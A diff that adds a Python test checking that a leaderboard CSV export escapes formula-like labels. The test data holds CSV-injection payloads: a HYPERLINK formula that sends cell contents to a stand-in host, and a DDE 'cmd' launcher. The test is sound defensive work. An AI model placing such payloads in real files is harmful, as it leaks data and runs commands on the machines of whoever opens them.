@@ -211,3 +211,22 @@ def test_export_start_queues_a_validated_job(world: World) -> None:
     assert (job.kind, job.queue, job.status) == ("export", "cpu", "queued")
     assert job.params == {"kind": "preferences", "snapshot_id": world.snapshot.id}
     assert job.created_by_id == world.staff.id
+
+
+def test_leaderboard_csv_writes_a_formula_like_label_as_text(world: World) -> None:
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1, "rated 1st")/external',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1)",
+    ]
+    board = world.leaderboard
+    for row, label in zip(board.rows, hostile, strict=False):
+        row["label"] = label
+    board.save(update_fields=["rows"])
+
+    job = run_export(study=world.study_a, kind="leaderboard")
+
+    text = Path(job.result["files"]["leaderboard.csv"]).read_text(encoding="utf-8")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [row["label"] for row in rows] == ["'" + label for label in hostile[: len(rows)]]
+    assert [float(row["rating"]) for row in rows] == [row["rating"] for row in board.rows]
